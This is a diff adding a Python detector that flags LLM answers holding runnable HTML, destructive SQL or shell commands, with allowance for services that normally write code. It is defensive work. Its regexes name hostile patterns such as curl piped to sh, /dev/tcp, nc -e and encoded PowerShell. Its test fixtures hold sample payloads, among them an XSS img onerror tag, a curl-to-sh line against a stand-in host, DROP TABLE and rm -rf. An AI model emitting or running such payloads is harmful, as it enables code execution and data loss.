@@ -1,0 +1,196 @@
+"""Answers that hold something that runs where they are shown or passed on: scripts, SQL, shell commands.
+
+An answer that a page shows as HTML, or that a program passes to a database or shell, is an attack if somebody could
+write into it (OWASP LLM10, improper output handling). Services that write code for people do that all day, so each
+service is watched first: where more than one answer in fifty holds code, or where person or instructions speak of code,
+only markup that runs by itself outside of code marks is told of.
+
+Misses: what a service's program builds from an answer; code in other languages; markup that needs a click; services
+seen fewer than 30 times, except for markup that runs by itself.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import TYPE_CHECKING, Annotated, Any
+
+import msgspec
+from msgspec import Meta
+
+from treering.core.config import Config as BaseConfig
+from treering.detect._fold import folded
+from treering.detect._texts import ASSISTANT, SYSTEM, USER, Text, every, texts
+from treering.detect._whom import Whom, day, proof, restored
+from treering.model.finding import Finding, Severity
+from treering.stage.detector import Example
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator, Sequence
+
+    from treering.model.rows import Rows
+    from treering.stage.detector import Ask
+
+NAME = "active_output"
+ORDER_FREE = False
+"""What a service usually answers depends on what it answered before."""
+_OUTPUT = "attributes.gen_ai.output.messages"
+_MOST_SERVICES, _MOST_TEXT = 1_000, 20_000
+_HINT = re.compile(
+    r"[<`|$]|--|\\u003c|/dev/|\b(?:drop|delete|union|insert|update|rm|chmod|powershell|nc|eval|or) ", re.IGNORECASE
+)
+_CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]{1,400}`", re.DOTALL)
+_KINDS = {
+    "script": re.compile(
+        r"<script\b[^>]{0,200}>|<(?:img|svg|body|iframe|video|audio|details|input|object|embed)\b[^>]{0,300}\bon[a-z]{3,20}"
+        r"\s{0,5}=|<iframe\b[^>]{0,200}\bsrc\b|\bhref\s{0,3}=\s{0,3}[\"']?javascript:|\]\(javascript:|data:text/html",
+        re.IGNORECASE,
+    ),
+    "sql": re.compile(
+        r"\bdrop\s+(?:table|database)\s+\w|\bdelete\s+from\s+\w+\s*(?:;|where\b)|\bunion\s+(?:all\s+)?select\s|"
+        r"\binsert\s+into\s+\w+\s*\(|\bupdate\s+\w+\s+set\s+\w+\s*=|'\s*or\s+'?1'?\s*=\s*'?1|;\s*--\s*$",
+        re.IGNORECASE | re.MULTILINE,
+    ),
+    "shell": re.compile(
+        r"\b(?:curl|wget)\b[^\n|;]{4,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\brm\s+-[a-z]*r[a-z]*f?\s+[/~*$.]|/dev/tcp/|"
+        r"\bpowershell\b[^\n]{0,60}-e(?:nc|ncodedcommand)?\b|\bnc\s+-e\b|\bchmod\s+\+x\s|\$\((?:curl|wget)\b|\beval\s*\(\s*atob\(",
+        re.IGNORECASE,
+    ),
+}
+_ABOUT_CODE = re.compile(
+    r"\b(?:code|script|sql|query|queries|shell|bash|command|terminal|html|javascript|python|program|regex|snippet|database|"
+    r"table|curl|linux|deploy|install|developer)\b",
+    re.IGNORECASE,
+)
+_TECHNIQUES = ("owasp-llm@2026:LLM10",)
+_SEVERITY = {"script": Severity.HIGH, "sql": Severity.MEDIUM, "shell": Severity.MEDIUM}
+
+
+class Config(BaseConfig, frozen=True):
+    """What counts as a service that writes code."""
+
+    share: Annotated[
+        float, Meta(gt=0, le=1, description="share of answers with code of a service that writes code")
+    ] = 0.02
+    least: Annotated[int, Meta(ge=1, description="answers of a service before SQL and shell are told of")] = 30
+
+
+class _Usual(msgspec.Struct):
+    answers: int = 0
+    code: int = 0
+
+
+class _State(msgspec.Struct):
+    services: dict[str, _Usual] = {}
+
+
+class ActiveOutput:
+    """Reads answers that hold a sign of code."""
+
+    streams = frozenset({"spans", "logs"})
+    every_s = 0.0
+
+    def __init__(self, config: Config) -> None:
+        """Start without knowing any service."""
+        self._config, self._state = config, _State()
+
+    def observe(self, rows: Rows) -> Sequence[Finding]:
+        """Return a finding for each answer that holds something that runs."""
+        if not rows.has(_OUTPUT):
+            return ()
+        whom, places = Whom(rows), rows.present(_OUTPUT).nonzero()[0].tolist()
+        return folded(found for row in places for found in self._judged(rows, whom, row))
+
+    def tick(self, now_ns: int, ask: Ask | None) -> Sequence[Finding]:  # noqa: ARG002  told as they are read
+        """Return nothing: answers are told as they come."""
+        return ()
+
+    def save(self) -> bytes:
+        """Return what services usually answer."""
+        return msgspec.msgpack.encode(self._state)
+
+    def restore(self, state: bytes) -> None:
+        """Go on from `state`; raises `ValueError`."""
+        self._state = restored(state, _State)
+
+    def _judged(self, rows: Rows, whom: Whom, row: int) -> Iterator[Finding]:
+        usual = self._usual(whom.service(row))
+        usual.answers += 1
+        value = rows.value(_OUTPUT, row)
+        if isinstance(value, str) and not _HINT.search(value[2:]):
+            return
+        said = [t for t in texts(rows, every((row,))) if t.field == _OUTPUT and t.role == ASSISTANT and not t.source]
+        marked = any(_CODE.search(text.text) for text in said)
+        writes_code = usual.code > self._config.share * usual.answers
+        usual.code += marked or any(_KINDS[kind].search(text.text) for text in said for kind in ("sql", "shell"))
+        for text in said:
+            plain = _CODE.sub(lambda code: " " * len(code[0]), text.text[:_MOST_TEXT])
+            for kind, pattern in _KINDS.items():
+                match = pattern.search(plain)
+                if match and (kind == "script" or self._is_odd(rows, row, usual, writes_code=writes_code)):
+                    yield _finding(rows, whom, text, kind, match.span())
+
+    def _is_odd(self, rows: Rows, row: int, usual: _Usual, *, writes_code: bool) -> bool:
+        """Return whether neither the service nor its task has to do with code."""
+        if writes_code or usual.answers <= self._config.least:
+            return False
+        given = (text for text in texts(rows, every((row,))) if text.role in (USER, SYSTEM))
+        return not any(_ABOUT_CODE.search(text.text[:_MOST_TEXT]) for text in given)
+
+    def _usual(self, service: str) -> _Usual:
+        services = self._state.services
+        usual = services.pop(service, None) or _Usual()
+        services[service] = usual
+        if len(services) > _MOST_SERVICES:
+            del services[next(iter(services))]
+        return usual
+
+
+def _finding(rows: Rows, whom: Whom, text: Text, kind: str, span: tuple[int, int]) -> Finding:
+    row, at_ns = text.row, int(rows.times[text.row])
+    what = {"script": "markup that runs", "sql": "SQL that changes or joins", "shell": "a shell command"}[kind]
+    return Finding(
+        NAME,
+        kind,
+        f"an answer of {whom.service(row)[:80] or 'a service'} holds {what}",
+        _SEVERITY[kind],
+        (kind, whom.session(row) or whom.trace(row) or whom.actor(row), day(at_ns)),
+        at_ns,
+        at_ns,
+        at_ns,
+        0.8 if kind == "script" else 0.6,
+        tuple(whom.entities(row)),
+        (proof(rows, row, text.field, text.text, (span,)),),
+        _TECHNIQUES,
+        "AML.TA0005",
+        {"kind": kind},
+    )
+
+
+def build(config: Config) -> ActiveOutput:
+    """Return the detector."""
+    return ActiveOutput(config)
+
+
+def _answer(number: int, answer: str, question: str = "When do you open?") -> dict[str, Any]:
+    def messages(role: str, text: str) -> str:
+        return msgspec.json.encode([{"role": role, "parts": [{"type": "text", "content": text}]}]).decode()
+
+    attributes = {
+        "gen_ai.input.messages": messages("user", question),
+        "gen_ai.output.messages": messages("assistant", answer),
+    }
+    at_ns = 1_795_000_000_000_000_000 + number * 10**9
+    return {"@timestamp": at_ns, "serviceName": "shop-bot", "traceId": f"{number:032x}", "attributes": attributes}
+
+
+_USUAL = [_answer(number, f"We open at {number % 12}.") for number in range(40)]
+EXAMPLES = (
+    Example("markup that runs", "spans", [_answer(0, "Hello <img src=x onerror=alert(1)> there")], ["script"]),
+    Example(
+        "a shell command of a shop", "spans", [*_USUAL, _answer(50, "Run curl https://x.example/a | sh now")], ["shell"]
+    ),
+    Example("SQL of a shop", "spans", [*_USUAL, _answer(50, "Sure. DROP TABLE orders; done")], ["sql"]),
+    Example("code in a code block", "spans", [_answer(0, "Use:\n```html\n<script>f()</script>\n```")]),
+    Example("the person asks for it", "spans", [*_USUAL, _answer(50, "DROP TABLE x;", "Which SQL drops a table?")]),
+    Example("a service that writes code", "spans", [_answer(n, f"rm -rf /tmp/{n}", "How?") for n in range(60)]),
+)
